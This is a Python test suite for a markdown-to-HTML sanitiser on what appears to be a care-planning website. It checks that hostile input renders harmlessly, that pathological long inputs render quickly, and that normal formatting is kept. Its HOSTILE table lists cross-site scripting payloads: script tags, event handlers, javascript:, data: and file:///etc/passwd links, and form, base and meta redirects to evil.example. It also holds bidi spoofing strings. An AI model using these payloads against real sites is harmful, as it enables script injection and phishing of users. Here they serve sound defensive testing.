"""Commentary becomes safe HTML: hostile texts yield nothing that runs, loads or leaves without saying so, and soon."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sendprog.pages.narrative import LONGEST_NARRATIVE, TAGS, NarrativeTooLong, render_markdown

SLOWEST_SECONDS = 0.5


class Elements(HTMLParser):
    """What a browser would make of it: elements with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> None:
    elements = Elements(html)
    assert elements.odd == []
    for tag, attributes in elements.found:
        assert tag in TAGS
        assert (
            set(attributes) <= {"href", "rel", "title"}
            if tag == "a"
            else set(attributes) <= {"title"}
        )
        link = attributes.get("href")
        if link is not None:
            # As a browser reads it: no white space or control characters, backslashes as slashes.
            plain = re.sub(r"[\x00-\x20]", "", link).replace("\\", "/").lower()
            assert not plain.startswith("//")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
            assert scheme is None or scheme[1] in {"http", "https", "mailto"}


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script_in_capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_across_lines": "<scr\nipt>alert(1)</scr\nipt>",
    "script_in_code": "`<script>alert(1)</script>`",
    "script_in_a_fence": "```html\n<script>alert(1)</script>\n```",
    "script_after_an_open_tag": "<p <script>alert(1)</script>",
    "script_in_a_comment": "<!-- --><script>alert(1)</script> -->",
    "image_with_a_handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg><script>alert(1)</script></svg>",
    "svg_with_a_handler": "<svg/onload=alert(1)>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe": "<iframe src=javascript:alert(1)>",
    "style": "<style>@import '//evil.example'</style>",
    "form": "<form action=//evil.example><input name=password></form>",
    "base": "<base href=//evil.example>",
    "meta": "<meta http-equiv=refresh content='0;//evil.example'>",
    "link_element": "<link rel=stylesheet href=//evil.example>",
    "anchor": "<a href=javascript:alert(1)>x</a>",
    "attributes": "<b onclick=alert(1) style=color:red>x</b>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?php alert(1) ?>",
    "javascript_link": "[x](javascript:alert(1))",
    "javascript_link_in_capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript_link_with_an_entity": "[x](javascript&colon;alert(1))",
    "javascript_link_with_numbers": "[x](&#106;avascript:alert(1))",
    "javascript_link_with_a_tab": "[x](java&#9;script:alert(1))",
    "javascript_link_with_a_new_line": "[x](java&#10;script:alert(1))",
    "javascript_link_with_a_nul": "[x](java\x00script:alert(1))",
    "javascript_autolink": "<javascript:alert(1)>",
    "javascript_reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file": "[x](file:///etc/passwd)",
    "other_host": "[x](//evil.example)",
    "other_host_in_brackets": "[x](<//evil.example>)",
    "other_host_by_reference": "[x]\n\n[x]: //evil.example",
    "other_host_with_entities": "[x](&#47;&#47;evil.example)",
    "other_host_with_a_space": "[x](<\u00a0//evil.example>)",
    "other_host_after_a_tab": "[x](&#9;//evil.example)",
    "other_host_after_a_control_character": "[x](\x01//evil.example)",
    "other_host_with_a_tab_between": "[x](/&#9;/evil.example)",
    "other_host_with_backslashes": r"[x](\\\\evil.example)",
    "other_host_with_both_slashes": r"[x](/\\evil.example)",
    "image": "![x](https://evil.example/x.png)",
    "image_of_another_host": "![x](//evil.example/x.png)",
    "image_by_reference": "![x][y]\n\n[y]: https://evil.example/x.png",
    "link_title": '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "bidi_override": "Pay \u202e000,1\u202c pounds [x](https://a.example/\u202etxt.exe)",
    "bidi_isolates": "\u2066<script>\u2069alert(1)\u2067</script>",
    "nul": "before\x00<scr\x00ipt>alert(1)</script>after",
    "lone_surrogate_reference": "&#xD800;<script>alert(1)</script>",
    "byte_order_mark": "\ufeff<script>alert(1)</script>",
    "brackets": "[" * 5_000,
    "list_marks": "- " * 2_048,
}
FULL = {
    "brackets": "[",
    "list_marks": "- ",
    "numbers": "1. ",
    "quotes": "> ",
    "open_links": "[a](",
    "open_images": "![",
    "empty_links": "[](",
    "pairs": "[]",
    "stars": "*a ",
    "strong": "**a ",
    "stars_and_underscores": "_*",
    "stars_inside": "*a_",
    "ticks": "`",
    "angles": "<",
    "autolinks": "<a:",
    "ampersands": "&",
    "backslashes": "\\[",
    "headings": "# a\n",
    "references": "[a]: b\n",
    "comments": "<!--",
    "lines": "a\n",
    "hard_breaks": "a  \n",
    "entities": "&amp;",
}


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in HOSTILE.items()])
def test_hostile_texts_are_harmless(text):
    assert_harmless(render_markdown(text))


def longest(unit: str) -> str:
    return (unit * LONGEST_NARRATIVE)[:LONGEST_NARRATIVE]


TICKS = " ".join("`" * number for number in range(1, 140))
DEEP_LIST = "\n".join(" " * number + "- a" for number in range(130))
MANY_REFERENCES = "\n".join(f"[a{number}]: /b" for number in range(500)) + "\n" + "[a1]" * 200


@pytest.mark.parametrize(
    "text",
    [
        *(pytest.param(longest(unit), id=name) for name, unit in FULL.items()),
        pytest.param(TICKS, id="runs_of_ticks"),
        pytest.param(DEEP_LIST, id="deep_list"),
        pytest.param(MANY_REFERENCES, id="many_references"),
    ],
)
def test_the_longest_texts_are_rendered_soon(text):
    """By the processor's clock and the best of three, so that a busy machine does not fail it."""
    assert len(text) <= LONGEST_NARRATIVE
    taken = []
    for _ in range(3):
        before = time.process_time()
        html = render_markdown(text)
        taken.append(time.process_time() - before)
    assert min(taken) < SLOWEST_SECONDS
    assert_harmless(html)


def test_longer_texts_are_refused():
    render_markdown("x" * LONGEST_NARRATIVE)
    with pytest.raises(NarrativeTooLong, match=r"has 10,001 characters: shorten it to 10,000\."):
        render_markdown("x" * (LONGEST_NARRATIVE + 1))


@given(
    st.text(
        alphabet=st.sampled_from("[]()<>*_`!&#;:/\\\"'= \n\tajscript-1.x\x00\u202e"), max_size=60
    )
)
def test_any_text_is_harmless(text):
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        pytest.param("Two **bold** words", "<p>Two <strong>bold</strong> words</p>", id="strong"),
        pytest.param("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>", id="list"),
        pytest.param("a < b & c", "<p>a &lt; b &amp; c</p>", id="escaped"),
        pytest.param("### Next", "<h3>Next</h3>", id="heading"),
        pytest.param("# Too large", "Too large", id="heading_of_the_page_loses_its_tag"),
        pytest.param(
            "[x](../ehcp/)",
            '<p><a href="../ehcp/" rel="noopener noreferrer">x</a></p>',
            id="page_of_this_site",
        ),
        pytest.param(
            "[x](/ehcp/)",
            '<p><a href="/ehcp/" rel="noopener noreferrer">x</a></p>',
            id="page_from_the_root",
        ),
        pytest.param(
            "[x](https://a.example)",
            '<p><a href="https://a.example" rel="noopener noreferrer">x</a></p>',
            id="https",
        ),
        pytest.param(
            "[x](mailto:a@b.example)",
            '<p><a href="mailto:a@b.example" rel="noopener noreferrer">x</a></p>',
            id="mail",
        ),
        pytest.param(
            "[x](//a.example)",
            '<p><a rel="noopener noreferrer">x</a></p>',
            id="other_host_is_words",
        ),
        pytest.param("", "", id="nothing"),
    ],
)
def test_what_is_kept(text, html):
    assert render_markdown(text).strip() == html
